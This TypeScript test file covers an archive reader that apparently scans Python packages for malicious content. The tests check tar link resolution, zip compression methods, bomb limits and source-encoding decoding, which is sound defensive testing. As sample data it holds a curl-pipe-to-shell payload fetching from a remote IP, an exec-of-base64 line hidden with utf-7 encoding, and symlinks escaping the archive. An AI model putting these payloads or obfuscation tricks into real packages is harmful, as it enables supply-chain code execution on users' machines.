// The reader gives pip's view of every member, or a gap: tar links resolved inside the archive, zip
// entries in every method Python's zipfile reads, zip "symlinks" read as the files pip writes, and
// Python sources decoded as CPython decodes them (PEP 263).
import { randomBytes } from 'node:crypto';
import { describe, expect, it } from 'vitest';
import { decodeSource, readArchive } from '../../src/archive/index.js';
import { unicodeEscape } from '../../src/archive/text.js';
import type { ArchiveEntry, ArchiveView } from '../../src/types.js';
import { compress, makeTarGz, makeZip, methodZip, zipLzmaBody } from './hostile.js';

const MiB = 1024 * 1024;
const text = (e: ArchiveEntry | undefined) => (e?.data ? Buffer.from(e.data).toString('utf8') : undefined);
const find = (v: ArchiveView, path: string) => v.entries.find((e) => e.path === path);
const PAYLOAD = 'import os\nos.system("curl -s http://198.51.100.7/x | sh")\n';

describe('tar links get their target member content', () => {
  it('gives a hard-linked and a symlinked setup.py the content of the member they name', async () => {
    const view = await readArchive(
      makeTarGz([
        { path: 'p-1.0/lib/real.py', data: PAYLOAD },
        { path: 'p-1.0/setup.py', type: 'hardlink', linkTarget: 'p-1.0/lib/real.py' },
        { path: 'p-1.0/p/__init__.py', type: 'symlink', linkTarget: '../lib/./real.py' },
      ]),
    );
    expect(view.status).toBe('ok');
    expect(view.gaps).toBeUndefined();
    expect(find(view, 'p-1.0/setup.py')).toMatchObject({ type: 'hardlink', size: PAYLOAD.length });
    expect(text(find(view, 'p-1.0/setup.py'))).toBe(PAYLOAD);
    expect(text(find(view, 'p-1.0/p/__init__.py'))).toBe(PAYLOAD);
  });

  it('follows chains, takes the last member of a name, and a hard link only looks back', async () => {
    const view = await readArchive(
      makeTarGz([
        { path: 'p/a.py', data: 'first = 1\n' },
        { path: 'p/hard.py', type: 'hardlink', linkTarget: 'p/a.py' },
        { path: 'p/s1.py', type: 'symlink', linkTarget: 's2.py' },
        { path: 'p/s2.py', type: 'symlink', linkTarget: 'a.py' },
        { path: 'p/a.py', data: 'second = 2\n' },
      ]),
    );
    // The hard link was stored after the first a.py: tarfile links it to that one.
    expect(text(find(view, 'p/hard.py'))).toBe('first = 1\n');
    // A symlink shows what ends up at the path after extraction: the last a.py.
    expect(text(find(view, 'p/s1.py'))).toBe('second = 2\n');
    expect(view.gaps).toBeUndefined();
  });

  it('makes a gap of a code file linked outside the archive, to nothing, or in a cycle; notes the others', async () => {
    const view = await readArchive(
      makeTarGz([
        { path: 'p/setup.py', type: 'symlink', linkTarget: '/tmp/evil.py' },
        { path: 'p/up.py', type: 'symlink', linkTarget: '../../outside.py' },
        { path: 'p/hard.py', type: 'hardlink', linkTarget: 'p/missing.py' },
        { path: 'p/loop1.py', type: 'symlink', linkTarget: 'loop2.py' },
        { path: 'p/loop2.py', type: 'symlink', linkTarget: 'loop1.py' },
        { path: 'p/README', type: 'symlink', linkTarget: '../../README.md' },
      ]),
    );
    expect(view.status).toBe('ok');
    expect(view.gaps).toEqual([
      {
        stage: 'archive',
        path: 'p/setup.py',
        reason: "symbolic link to '/tmp/evil.py' points outside the archive",
      },
      {
        stage: 'archive',
        path: 'p/up.py',
        reason: "symbolic link to '../../outside.py' points outside the archive",
      },
      {
        stage: 'archive',
        path: 'p/hard.py',
        reason: "hard link to 'p/missing.py' names no member of the archive",
      },
      {
        stage: 'archive',
        path: 'p/loop1.py',
        reason: "symbolic link to 'loop2.py' is part of a cycle of links",
      },
      {
        stage: 'archive',
        path: 'p/loop2.py',
        reason: "symbolic link to 'loop1.py' is part of a cycle of links",
      },
    ]);
    expect(view.notes).toContain("p/README: symbolic link to '../../README.md' points outside the archive");
    for (const e of view.entries) expect(e.data).toBeUndefined();
  });

  it('counts the content links show against the archive limits (many links to one big file)', async () => {
    const big = randomBytes(MiB);
    const links = Array.from({ length: 300 }, (_, i) => ({
      path: `p/l${i}.py`,
      type: 'hardlink' as const,
      linkTarget: 'p/big.py',
    }));
    const view = await readArchive(makeTarGz([{ path: 'p/big.py', data: big }, ...links]));
    // 300 MiB shown from a 1 MiB archive: the ratio limit (100:1) stops it after about 100 links.
    expect(view.status).toBe('error');
    expect(view.limitsHit).toContain('ratio');
    const shown = view.entries.filter((e) => e.data).length;
    expect(shown).toBeGreaterThan(90);
    expect(shown).toBeLessThan(110);
  });

  it('bounds a long chain of links', async () => {
    const chain = Array.from({ length: 40 }, (_, i) => ({
      path: `p/l${i}.py`,
      type: 'symlink' as const,
      linkTarget: `l${i + 1}.py`,
    }));
    const view = await readArchive(makeTarGz([...chain, { path: 'p/l40.py', data: 'x = 1\n' }]));
    expect(view.gaps?.[0]).toMatchObject({
      path: 'p/l0.py',
      reason: expect.stringMatching(/chain of more than 16/),
    });
    expect(text(find(view, 'p/l30.py'))).toBe('x = 1\n');
  });
});

describe('zip entries as Python zipfile reads them', () => {
  it('reads bzip2 (12) and lzma (14) entries', async () => {
    const view = await readArchive(
      methodZip([
        { name: 'p/setup.py', data: PAYLOAD, method: 12 },
        { name: 'p/p/__init__.py', data: PAYLOAD, method: 14 },
        { name: 'p/empty.py', data: '', method: 14 },
      ]),
    );
    expect(view.status).toBe('ok');
    expect(view.gaps).toBeUndefined();
    expect(text(find(view, 'p/setup.py'))).toBe(PAYLOAD);
    expect(text(find(view, 'p/p/__init__.py'))).toBe(PAYLOAD);
    expect(find(view, 'p/empty.py')?.size).toBe(0);
  });

  it('cuts big bzip2 and lzma entries at the per-file cap and claims the rest', async () => {
    // Under the 1 MiB the ratio limit starts at, so only the per-file cap applies.
    const big = Buffer.alloc(768 * 1024, 'x = 1\n');
    for (const method of [12, 14]) {
      const view = await readArchive(methodZip([{ name: 'p/big.py', data: big, method }]), {
        fileBytes: 256 * 1024,
      });
      const entry = find(view, 'p/big.py');
      expect(entry?.truncated, `method ${method}`).toBe(true);
      expect(entry?.data?.length, `method ${method}`).toBe(256 * 1024);
      expect(view.status).toBe('ok');
    }
  });

  it('stops a bzip2 or lzma bomb at the ratio limit without decoding it whole', async () => {
    const zeros = Buffer.alloc(8 * MiB);
    for (const method of [12, 14]) {
      const view = await readArchive(methodZip([{ name: 'b/0.bin', data: zeros, method }]));
      expect(view.status, `method ${method}`).toBe('error');
      expect(view.limitsHit).toContain('ratio');
      // Decoded up to the per-file cap at most; the rest was only declared.
      expect(view.bytesRead).toBeLessThanOrEqual(5 * MiB);
    }
  }, 30_000);

  it('makes a gap of an entry whose data disagrees with its declared size, or is damaged', async () => {
    const view = await readArchive(
      methodZip([
        { name: 'p/short.py', data: PAYLOAD, method: 12, size: PAYLOAD.length + 10 },
        { name: 'p/broken.py', data: PAYLOAD, method: 12, body: Buffer.from('BZh91AY&SYgarbage') },
        { name: 'p/ok.py', data: 'x = 1\n', method: 14 },
      ]),
    );
    expect(view.status).toBe('ok');
    expect(view.gaps?.map((g) => g.path)).toEqual(['p/short.py', 'p/broken.py']);
    expect(find(view, 'p/short.py')?.data).toBeUndefined();
    expect(text(find(view, 'p/ok.py'))).toBe('x = 1\n');
  });

  it('makes a gap of lzma properties the decoder would misread (it allocated 2^28 coders for them)', async () => {
    const body = zipLzmaBody(Buffer.from(PAYLOAD));
    body[4] = 192; // lc 3, lp 1, pb 4: valid, but read as a signed byte by lzma1
    const view = await readArchive(methodZip([{ name: 'p/setup.py', data: PAYLOAD, method: 14, body }]));
    expect(view.gaps).toEqual([
      {
        stage: 'archive',
        path: 'p/setup.py',
        reason: 'lzma properties byte 192 (lc/lp/pb) is not supported by the reader',
      },
    ]);
  });

  it('reads only the first bzip2 stream of an entry, as zipfile does', async () => {
    const body = Buffer.concat([
      compress('bzip2', Buffer.from(PAYLOAD)),
      compress('bzip2', Buffer.from('hidden = 1\n')),
    ]);
    const view = await readArchive(methodZip([{ name: 'p/setup.py', data: PAYLOAD, method: 12, body }]));
    expect(view.gaps).toBeUndefined();
    expect(text(find(view, 'p/setup.py'))).toBe(PAYLOAD);
  });

  it('makes a gap of a method it cannot decode, naming it', async () => {
    const view = await readArchive(
      methodZip([
        { name: 'p/setup.py', data: PAYLOAD, method: 93 },
        { name: 'p/odd.py', data: PAYLOAD, method: 77 },
      ]),
    );
    expect(view.status).toBe('ok');
    expect(view.gaps).toEqual([
      {
        stage: 'archive',
        path: 'p/setup.py',
        reason: 'zip compression method 93, zstandard is not supported by the reader',
      },
      {
        stage: 'archive',
        path: 'p/odd.py',
        reason: 'zip compression method 77 is not supported by the reader',
      },
    ]);
  });

  it('reads a zip "symlink" entry as the file pip writes, keeping its text as the target', async () => {
    const view = await readArchive(makeZip([{ path: 'p/setup.py', type: 'symlink', linkTarget: PAYLOAD }]));
    expect(find(view, 'p/setup.py')).toMatchObject({ type: 'symlink', linkTarget: PAYLOAD });
    expect(text(find(view, 'p/setup.py'))).toBe(PAYLOAD);
  });

  it('lists every unreadable member up to a bound, then counts the rest', async () => {
    const view = await readArchive(
      makeZip(Array.from({ length: 60 }, (_, i) => ({ path: `p/${i}.py`, data: 'x', encrypted: true }))),
    );
    expect(view.gaps).toHaveLength(51);
    expect(view.gaps?.at(-1)?.reason).toBe('10 more members could not be read');
  });
});

describe('Python sources decoded as CPython decodes them', () => {
  const utf7 = (s: string) => `+${Buffer.from(s, 'utf16le').swap16().toString('base64').replace(/=+$/, '')}-`;

  it('decodes a utf-7 setup.py so the payload it hides is what the rules see', async () => {
    const hidden = 'import base64\nexec(base64.b64decode("aW1wb3J0IG9z"))\n';
    const source = `# -*- coding: utf-7 -*-\n${utf7(hidden)}\n`;
    expect(source).not.toContain('exec');
    const decoded = decodeSource(Buffer.from(source));
    expect(decoded).toMatchObject({ encoding: 'utf_7', lossy: false });
    expect(decoded.text).toContain('exec(base64.b64decode("aW1wb3J0IG9z"))');
    const view = await readArchive(makeTarGz([{ path: 'p-1.0/setup.py', data: source }]));
    expect(view.gaps).toBeUndefined();
  });

  it('decodes unicode_escape and raw_unicode_escape as Python does', () => {
    const escaped =
      '# coding: unicode_escape\n\\x65\\u0078\\U00000065\\N{latin small letter c}\\050\\x31)\\nx = "\\q"';
    expect(decodeSource(Buffer.from(escaped)).text).toBe('# coding: unicode_escape\nexec(1)\nx = "\\q"');
    expect(unicodeEscape(Buffer.from('a\\\\u0041 \\u0042 \\x43'), true).text).toBe('a\\\\u0041 B \\x43');
  });

  it('takes the declaration from line 2 only after a comment line, and honours latin-1 and cp1252', () => {
    expect(decodeSource(Buffer.from('x = 1\n# coding: utf-7\n+AGU-')).encoding).toBeUndefined();
    const latin = Buffer.concat([
      Buffer.from('#!/usr/bin/env python\n# vim: fileencoding=latin-1\ns = "'),
      Buffer.from([0xe9, 0x22]),
    ]);
    expect(decodeSource(latin)).toMatchObject({
      encoding: 'latin_1',
      text: expect.stringMatching(/s = "é"$/),
    });
    expect(decodeSource(Buffer.from([...Buffer.from('# coding: cp1252\n'), 0x93])).text).toBe(
      '# coding: cp1252\n\u201c',
    );
  });

  it('finds a declaration however far along its line it is', () => {
    const far = `#${' '.repeat(20_000)}coding: utf-7\n+AGUAeABlAGM-(1)\n`;
    expect(decodeSource(Buffer.from(far))).toMatchObject({
      encoding: 'utf_7',
      text: expect.stringContaining('exec(1)'),
    });
  });

  it('makes a decode gap of an encoding it cannot decode, or an unknown \\N{} name', async () => {
    const view = await readArchive(
      makeTarGz([
        { path: 'p/ebcdic.py', data: '# coding: cp037\n\x89\x94\x97' },
        { path: 'p/named.py', data: '# coding: unicode_escape\n\\N{SNOWMAN}' },
        { path: 'p/rot.py', data: '# coding: rot13\nvzcbeg bf' },
        { path: 'p/README.txt', data: '# coding: cp037\n' },
      ]),
    );
    expect(view.gaps).toEqual([
      {
        stage: 'decode',
        path: 'p/ebcdic.py',
        reason: "source declares encoding 'cp037', which the gate cannot decode as Python would",
      },
      {
        stage: 'decode',
        path: 'p/named.py',
        reason: '\\N{SNOWMAN} names a character the gate does not know',
      },
    ]);
    // rot13 is not a text encoding: Python refuses to run the file, so it is no gap (read as UTF-8).
    expect(decodeSource(Buffer.from('# coding: rot13\nvzcbeg bf')).text).toContain('vzcbeg');
  });

  it('notes, not gaps, an undecodable encoding in a tests or docs folder (test data Python cannot run)', async () => {
    const view = await readArchive(
      makeTarGz([
        { path: 'p-1.0/tests/data/bad_coding.py', data: '# coding: lala\nx = 1\n' },
        { path: 'p-1.0/pkg/bad_coding.py', data: '# coding: lala\nx = 1\n' },
      ]),
    );
    expect(view.gaps?.map((g) => g.path)).toEqual(['p-1.0/pkg/bad_coding.py']);
    expect(view.notes?.some((n) => n.startsWith('p-1.0/tests/data/bad_coding.py:'))).toBe(true);
  });

  it('decodes large random sources without error', () => {
    const bytes = Buffer.concat([Buffer.from('# coding: utf-7\n'), randomBytes(100_000)]);
    expect(typeof decodeSource(bytes).text).toBe('string');
    const escapes = Buffer.concat([Buffer.from('# coding: unicode_escape\n'), randomBytes(100_000)]);
    expect(typeof decodeSource(escapes).text).toBe('string');
  });
});
